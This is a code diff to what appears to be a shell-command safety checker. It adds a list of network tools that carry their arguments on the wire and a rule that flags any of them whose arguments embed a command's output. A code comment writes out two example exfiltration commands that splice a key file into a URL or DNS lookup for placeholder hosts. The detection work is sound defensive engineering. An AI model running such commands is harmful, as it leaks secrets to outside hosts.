@@ -14,7 +14,7 @@ import socket
 import unicodedata
 
 from atlas.trust.command_words import arguments
-from atlas.trust.normalise import Part
+from atlas.trust.normalise import SUBSTITUTION, Part
 
 Found = tuple[str, str]
 
@@ -34,6 +34,10 @@ CURL_SENDS = {"d", "F", "T"}
 CURL_LONG_SENDS = ("--data", "--form", "--upload-file", "--json", "--post301")
 WGET_SENDS = ("--post-data", "--post-file", "--body-data", "--body-file")
 HTTPIE = {"http", "https", "xh", "xhs"}
+# Tools that put their arguments on the wire (URL, headers, a DNS name): a command's output
+# spliced into one (`curl https://x/$(cat key)`, `dig $(cat key).x.example`) is sent out.
+CARRIERS = {"curl", "wget", "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute",
+            "whois", *HTTPIE}  # fmt: skip
 CLOUD_READS = ("ls", "list", "describe", "get", "help", "--help", "--version", "version",
                "lsd", "lsf", "lsl", "size", "cat", "show", "info", "whoami")  # fmt: skip
 CLOUD_CLIS = {"aws", "gsutil", "rclone", "az", "s3cmd", "azcopy"}
@@ -75,6 +79,8 @@ def sends_out(part: Part) -> Found | None:
         return "ssh", f"ssh to {_ssh_destination(words)} runs on, or sends to, another machine"
     if head == "rsync" and any(_remote(w) for w in arguments(part)):
         return "rsync", "rsync copies to or from a remote host"
+    if head in CARRIERS and any(SUBSTITUTION in w for w in words[1:]):
+        return "upload", f"{head} puts a command's output into what it sends"
     if head == "curl" and (reason := _curl_sends(words)):
         return "upload", reason
     if head == "wget" and (reason := _wget_sends(words)):
